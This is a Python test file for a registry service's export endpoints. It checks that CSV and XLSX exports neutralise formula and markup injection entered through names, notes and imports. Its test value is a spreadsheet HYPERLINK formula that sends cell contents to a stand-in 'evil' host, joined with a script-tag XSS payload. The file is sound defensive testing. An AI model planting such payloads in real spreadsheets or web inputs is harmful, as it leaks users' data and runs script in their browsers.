"""Formulas and markup in every name: what goes out in a file is text, whoever wrote it and wherever."""

import csv
import io

import msgspec
import openpyxl
import pytest

from endpoints_registry.sheets import RUN_BY_SHEETS
from tests.attacks.city import CLUSTER, OURS, City
from tests.attacks.wire import Told, request, sent
from tests.flows.house import PATH, act

pytestmark = pytest.mark.asyncio(loop_scope="session")

WORD = '=HYPERLINK("http://evil/"&A1,"xem")<script>alert(1)</script>'
QUOTED = '"' + WORD.replace('"', '""') + '"'
FILES = (
    *(
        f"/api/v1/registry/export?format={form}&kind={kind}"
        for form in ("csv", "xlsx")
        for kind in ("units", "points", "expected")
    ),
    *(f"{PATH}/roster/export?format={form}" for form in ("csv", "xlsx")),
    "/api/v1/audit/export",
)


async def asked(city: City, who: str, method: str, path: str, body: object = None) -> Told:
    raw = b"" if body is None else body if isinstance(body, bytes) else msgspec.json.encode(body)
    return await sent(city.address, request(method, path, city.headers(who), raw))


async def written(city: City) -> None:
    """The same word wherever somebody may write one."""
    shift = {"name": WORD, "phone": "0900", "from": "2026-03-07T07:00:00Z", "to": "2026-03-07T12:00:00Z", "what": WORD}
    sitting = {"day": "2027-01-01", "starts_at": "08:00", "ends_at": "11:00", "name": WORD}
    conference = {
        "id": "moi",
        "title": WORD,
        "unit": "01",
        "sittings": [sitting],
        "hotline": {"name": WORD, "phone": "0900"},
        "expected": {"2027-01-01-am": {OURS: 5}},
    }
    points = f"code,name,hall_address,area,operator_name\n{OURS},{QUOTED},{QUOTED},{QUOTED},{QUOTED}\n"
    account = {"username": "moi", "name": WORD, "role": "coordinator", "scope": "006"}
    for who, method, path, body in (
        ("ann", "POST", "/api/v1/registry/imports", f"code,name,level,parent_code\n00178,{QUOTED},ward,006\n".encode()),
        ("ann", "POST", "/api/v1/registry/imports", points.encode()),
        (
            "ann",
            "POST",
            f"{PATH}/roster/imports",
            f"point,name,position,unit\n{OURS},{QUOTED},{QUOTED},{QUOTED}\n".encode(),
        ),
        ("ann", "POST", "/api/v1/conferences", conference),
        ("ann", "PUT", f"{PATH}/duty", [shift]),
        ("ada", "PUT", f"/api/v1/clusters/{CLUSTER}", {"name": WORD, "units": ["00181", "00199"]}),
        ("ada", "POST", "/api/v1/accounts", account),
        ("ann", "POST", f"{PATH}/notices", {"text": WORD, "points": [OURS]}),
        ("ann", "POST", f"{PATH}/incidents", {"trouble": "no_sound", "points": [OURS], "note": WORD}),
        ("ann", "POST", f"{PATH}/calls/{OURS}", {"do": "end", "outcome": "answered", "note": WORD}),
    ):
        told = await asked(city, who, method, path, body)
        assert told.status in (200, 201), f"{path}: {told.body[:300]!r}"
    assert (await city.who("operator").send(act(OURS, "incident", fault="other", note=WORD))).status == 200


async def test_in_no_file_that_goes_out_is_a_word_a_formula(alone: City) -> None:
    await written(alone)
    told = {path: await asked(alone, "ada" if "audit" in path else "ann", "GET", path) for path in FILES}
    hired = f"username,name,scope\nmoi-2,{QUOTED},006\n".encode()
    for form in ("csv", "xlsx"):
        path = f"/api/v1/accounts/imports?format={form}"
        told[path] = await asked(alone, "ada", "POST", path, hired.replace(b"moi-2", f"moi-{form}".encode()))
    found = set()
    for path, answer in told.items():
        assert answer.status == 200, path
        assert "attachment" in answer.head, path
        if answer.body.startswith(b"PK"):
            book = openpyxl.load_workbook(io.BytesIO(answer.body))
            cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
            assert {cell.data_type for cell in cells} <= {"s", "n", "d"}, path
            assert not any(cell.hyperlink for cell in cells), path
            words = [str(cell.value) for cell in cells]
        else:
            words = [cell for row in csv.reader(io.StringIO(answer.body.decode("utf-8-sig"))) for cell in row]
            assert not [word for word in words if word.startswith((*RUN_BY_SHEETS, "\t", "\r"))], path
        if any(WORD in word for word in words):
            found.add(path)
    # So that nobody finds nothing because nothing is there.
    assert len(found) > 6, found
